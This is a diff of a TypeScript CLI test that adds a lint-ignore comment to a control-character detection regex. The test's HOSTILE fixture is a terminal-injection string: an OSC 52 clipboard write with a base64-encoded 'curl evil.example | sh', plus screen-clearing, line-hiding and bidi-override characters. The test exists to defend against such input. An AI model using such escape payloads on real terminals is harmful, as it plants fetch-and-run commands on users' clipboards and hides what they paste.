@@ -12,6 +12,7 @@ import { makeCliHarness } from '../support/cli-harness';
 /** OSC 52 (write the clipboard), then clear the screen, then a carriage return that hides the line's start. */
 const HOSTILE = '\u001b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u0007\u001b[2J\rlooks-harmless\u202e';
 /** A raw control character (C0, DEL, C1) or bidi override anywhere but a line break. */
+// biome-ignore lint/suspicious/noControlCharactersInRegex: the test looks for exactly these
 const RAW_CONTROL = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/;
 
 describe('the CLI in a terminal', () => {
